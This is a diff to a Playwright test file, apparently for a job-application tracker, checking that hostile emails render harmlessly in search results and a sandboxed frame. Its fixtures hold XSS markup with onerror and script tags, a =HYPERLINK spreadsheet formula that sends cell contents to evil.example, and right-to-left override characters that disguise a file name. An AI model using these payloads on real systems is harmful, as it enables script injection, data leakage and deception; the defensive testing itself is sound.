@@ -1,5 +1,6 @@
 """Mail that means harm, opened: nothing runs, nothing is fetched, nothing is asked, nothing deceives."""
 
+import re
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
@@ -35,13 +36,19 @@ body {{ background: url(https://evil.example/css.png); font-family: x }} p {{ po
 MARKUP = f'"><img src=x onerror={RAN}><script>{RAN}</script>'
 MAILS = (
     mail("Your application as Cook at Nord", HTML, "jobs@nord.example", 1).replace(b"text/plain", b"text/html"),
-    mail(f"Your application {MARKUP}", f"{NO.format(role='Cook', company='Süd')}\n\n{MARKUP}",
-         f'"{MARKUP.replace(chr(34), "")}" <jobs@sued.example>', 2),
+    mail(f"Your application as Cook at South {MARKUP}", NO.format(role="Cook", company="South"),
+         f'"{MARKUP.replace(chr(34), "")}" <jobs@south.example>', 2),
     mail('=HYPERLINK("https://evil.example/?"&A1;"Your application")', NO.format(role="Cook", company="Formula"),
          "jobs@formula.example", 3),
     mail("Your application \u202egnp.exe\u2066", NO.format(role="Cook \u202etooc", company="Ost\u200b\u202e"),
          "jobs@ost.example", 4),
 )  # fmt: skip
+#: Where words of the mail stand on the screen, asked from outside its frame.
+WHERE = """words => { const frame = document.querySelector('iframe');
+    const found = [...frame.contentDocument.querySelectorAll('a, p, div')].find(one => one.textContent === words);
+    found.scrollIntoView({block: 'center'});
+    const [outer, inner] = [frame, found].map(one => one.getBoundingClientRect());
+    return [outer.left + inner.left + 4, outer.top + inner.top + 4]; }"""
 #: The marks that turn the direction of text or have no width.
 DECEIVING = set("\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff")
 
@@ -90,7 +97,7 @@ def messages(page: Page) -> list[str]:
 def test_every_page_of_a_hostile_search_is_harmless(page: Page, harmless: Callable[[], None]) -> None:
     page.goto("/applications/new/")
     for label in ("Employer", "Role", "How you applied", "Place", "Note"):
-        page.get_by_label(label).fill(MARKUP)
+        page.get_by_label(re.compile(f"^{label}")).fill(MARKUP)
     page.get_by_role("button", name="Add", exact=True).click()
     expect(page.get_by_role("heading", level=1)).to_have_text(MARKUP)
     harmless()
@@ -106,13 +113,18 @@ def test_every_page_of_a_hostile_search_is_harmless(page: Page, harmless: Callab
         assert page.locator("[onerror], [onload], [onclick], img, embed, object").count() == 0
     # Words of mail stay words, also where a spreadsheet would compute them.
     formula = '=HYPERLINK("https://evil.example/?"&A1;"Your application")'
-    assert titles >= {formula, f"Your application {MARKUP}", "Your application gnp.exe"}
+    assert titles >= {formula, f"Your application as Cook at South {MARKUP}", "Your application gnp.exe"}
 
 
 def test_the_hostile_mail_is_cleaned_in_its_frame(page: Page, harmless: Callable[[], None]) -> None:
     page.goto("/applications/?q=nord")
     page.locator(".name-cell a").first.click()
     page.get_by_role("link", name="Your application as Cook at Nord").first.click()
+    page.wait_for_function("document.querySelector('iframe')?.contentDocument.querySelector('mark')")
+    for words in ("script link", "odd script link", "vb link", "data link", "Hover here", "htmx"):
+        page.mouse.click(*page.evaluate(WHERE, words))
+    harmless()
+    # Only now: looking into the frame, Playwright adds listeners, of which the browser would complain.
     frame = page.frame_locator("iframe")
     expect(frame.locator("mark")).to_contain_text("move forward with other candidates")
     acting = "script, style, img, iframe, object, embed, form, input, button, svg, math, video, audio, base, meta[http-equiv]"
@@ -124,6 +136,3 @@ def test_the_hostile_mail_is_cleaned_in_its_frame(page: Page, harmless: Callable
     assert links == ["https://evil.example/", "https://evil.example/ping"]
     # What a link says is not where it leads: that stands behind it.
     expect(frame.locator("body")).to_contain_text("https://nord.example (evil.example)")
-    for words in ("script link", "odd script link", "vb link", "data link", "Hover here", "htmx"):
-        frame.get_by_text(words, exact=True).click()
-    harmless()
